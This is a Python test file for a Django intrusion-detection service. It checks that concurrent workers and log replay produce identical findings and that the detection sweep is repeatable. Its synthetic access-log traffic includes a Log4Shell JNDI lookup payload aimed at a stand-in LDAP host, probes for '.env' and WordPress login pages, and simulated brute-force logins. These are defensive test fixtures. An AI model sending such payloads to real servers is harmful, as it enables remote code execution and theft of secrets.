"""Live, in any order, by two workers at once, or from a log file: the same requests come to the same findings."""

from __future__ import annotations

import multiprocessing
import random
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from multiprocessing.connection import Connection
from typing import Any

import pytest
from django.db import connection, connections

from ip_tracking import population, sweep, tasks
from ip_tracking.detection.finding import Finding
from ip_tracking.detection.rules import RULES
from ip_tracking.event import Event, to_datetime, to_us
from ip_tracking.models import Batch, CaseFinding, RequestLog, SuspiciousIP, SweepMark
from ip_tracking.record.message import Message
from ip_tracking.replay.access_log import parse
from ip_tracking.replay.engine import Replay
from tests.traffic import NOON, batch, event, failed_login, good_login, stored

# Of a log file's line: no route, no outcome, whole seconds. What a symptom needs is there.
START = datetime(2025, 10, 9, 11, 20, tzinfo=UTC)
HALF = timedelta(minutes=40)
NETWORKS = {"203.0.113.9": 8, "2001:db8:1:2::1": 4, "203.0.113.10": 2, "198.51.100.77": 1, "198.51.100.4": 1}
TARGETS = [
    (5, 'POST /api/auth/login/ HTTP/1.1" 401'),
    (1, 'POST /api/auth/login/ HTTP/1.1" 200'),
    (1, 'GET /.env HTTP/1.1" 404'),
    (1, 'GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200'),
    (4, 'GET /made-up-%d/ HTTP/1.1" 404'),
    (2, 'GET /wp-login.php?n=%d HTTP/1.1" 404'),
    (6, 'GET /products/%d/ HTTP/1.1" 200'),
]

Told = tuple[str, str, int, int, int, int]


def random_lines(chance: random.Random, number: int) -> list[str]:
    """Bursts on both sides of a full hour, and a thin stream between them."""
    weights, targets = zip(*TARGETS, strict=True)
    lines = []
    for _ in range(number):
        seconds = chance.choice([chance.gauss(60, 20), chance.gauss(2_400, 30), chance.uniform(0, 4_800)])
        at = START + timedelta(seconds=max(int(seconds), 0))
        [network] = chance.choices(list(NETWORKS), list(NETWORKS.values()))
        [target] = chance.choices(targets, weights)
        request = target % chance.randrange(60) if "%d" in target else target
        lines.append(f'{network} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "{request} 7 "-" "agent {chance.randrange(3)}"\n')
    return lines


def from_the_file(lines: list[str]) -> set[Told]:
    replay = Replay()
    replay.read(lines, "access.log")
    return {told for suspect in replay.suspects() if suspect.is_flagged for told in map(_told, suspect.findings)}


def _told(finding: Finding) -> Told:
    return (
        finding.network, finding.rule, finding.hour_us, finding.count, finding.first_seen_us, finding.last_seen_us,
    )  # fmt: skip


def from_the_cases() -> set[Told]:
    rows = CaseFinding.objects.filter(rule__in={rule.name for rule in RULES}).values_list(
        "case__network", "rule", "hour", "count", "first_seen", "last_seen"
    )
    return {(n, rule, to_us(hour), count, to_us(a), to_us(b)) for n, rule, hour, count, a, b in rows}


def late_and_twice(chance: random.Random, events: Iterable[Event]) -> list[tuple[str, Message]]:
    """Random batches of what comes up to ten minutes late, a third of them delivered again."""
    left = sorted(events, key=lambda one: one.at_us + chance.uniform(0, 600_000_000))
    batches = []
    while left:
        size = chance.randrange(1, 80)
        batches.append(batch(*left[:size]))
        left = left[size:]
    for again in chance.sample(batches, len(batches) // 3):
        batches.insert(chance.randrange(len(batches)), again)
    return batches


def work(batches: list[tuple[str, Message]], told: Connection) -> None:
    """A worker process with a database connection of its own."""
    try:
        for batch_id, message in batches:
            tasks.store_now(batch_id, message)
        told.send("done")
    except Exception as error:  # noqa: BLE001 - it must reach the test
        told.send(repr(error))
    finally:
        connections.close_all()


def in_two_processes(batches: list[tuple[str, Message]]) -> list[Any]:
    """Deals the batches out to two workers; a redelivered one may be in both hands at once."""
    context = multiprocessing.get_context("fork")
    connections.close_all()  # a connection must not be shared with a child
    pipes = [context.Pipe() for _ in range(2)]
    workers = [context.Process(target=work, args=(batches[n::2], pipes[n][1])) for n in range(2)]
    for worker in workers:
        worker.start()
    told = [pipes[n][0].recv() if pipes[n][0].poll(120) else "hangs" for n in range(2)]
    for worker in workers:
        worker.join(10)
    return told


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("seed", range(3))
def test_two_workers_and_a_replay_come_to_the_same_findings_one_by_one(seed: int) -> None:
    if connection.vendor != "postgresql":
        pytest.skip("SQLite has one writer at a time: its workers wait for each other longer than they may.")
    chance = random.Random(seed)
    lines = random_lines(chance, 2_000)
    parsed = [line.event for line in map(parse, lines) if line]
    live = [one._replace(request_id=f"request-{number}") for number, one in enumerate(parsed)]

    assert in_two_processes(late_and_twice(chance, live)) == ["done", "done"]
    sweep.run(START + timedelta(hours=3))

    assert RequestLog.objects.count() == 2_000
    assert from_the_cases() == from_the_file(lines)
    assert len({rule for _, rule, *_ in from_the_cases()}) >= 5
    assert len({hour for _, _, hour, *_ in from_the_cases()}) == 2


# The sweep


def crowd(chance: random.Random) -> list[Event]:
    """Three hours in which every kind of crowd is at work, among shoppers."""
    events = []
    for hour in range(3):
        start = NOON + timedelta(hours=hour)
        at = lambda: start + timedelta(seconds=chance.randrange(3_600))  # noqa: B023, E731
        events += [failed_login(at(), f"198.51.100.{n % 9}", f"a{n}") for n in range(chance.randrange(25, 60))]
        events += [failed_login(at(), f"10.1.{n}.7", "ada", user_agent="tool") for n in range(chance.randrange(8, 14))]
        events += [good_login(at(), f"10.1.{n}.7", "ada") for n in chance.sample(range(14), 3)]
        events += [
            event(at(), f"10.2.{n}.7", path=f"/x{n}/", route="", status=404) for n in range(chance.randrange(15, 25))
        ]
        events += [event(at(), path=f"/api/{n}/", route="api", status=403) for n in range(chance.randrange(50, 70))]
        events += [event(at(), f"10.3.{n % 9}.7", user_agent="Chrome", duration_us=9_000_000) for n in range(90)]
        events += [event(at(), "10.4.0.7", user_agent="Chrome", duration_us=9_000_000) for n in range(99)]
    return events


def facts() -> list[tuple[Any, ...]]:
    rows = CaseFinding.objects.order_by("case__network", "rule", "hour")
    return list(
        rows.values_list("case__network", "rule", "hour", "count", "first_seen", "last_seen", "evidence", "severity")
    )


def clean() -> None:
    for model in (SuspiciousIP, Batch, RequestLog, SweepMark):
        model.objects.all().delete()


@pytest.mark.django_db
@pytest.mark.parametrize("seed", range(4))
def test_the_sweep_depends_on_the_rows_alone_and_a_rerun_changes_nothing(seed: int) -> None:
    """Swept as the hours came, swept twice, its mark lost, or all rows stored in another order."""
    chance = random.Random(seed)
    events = crowd(chance)
    for hour in range(3):
        start = to_us(NOON + timedelta(hours=hour))
        stored(*[one for one in events if one.hour_us == start], at=to_datetime(start) + timedelta(minutes=59))
        sweep.run(to_datetime(start) + timedelta(hours=1, minutes=5))
    first = facts()

    assert sweep.run(NOON + timedelta(hours=4)) == 0
    SweepMark.objects.all().delete()
    assert sweep.run(NOON + timedelta(hours=4)) == 0
    clean()
    chance.shuffle(events)
    for place in range(0, len(events), 50):
        stored(*events[place : place + 50])
    sweep.run(NOON + timedelta(hours=4))

    assert facts() == first
    assert len({rule for _, rule, *_ in first}) >= 4
    assert {rule for _, rule, *_ in first} <= {question.__name__.replace("_", "-") for question in population.QUESTIONS}
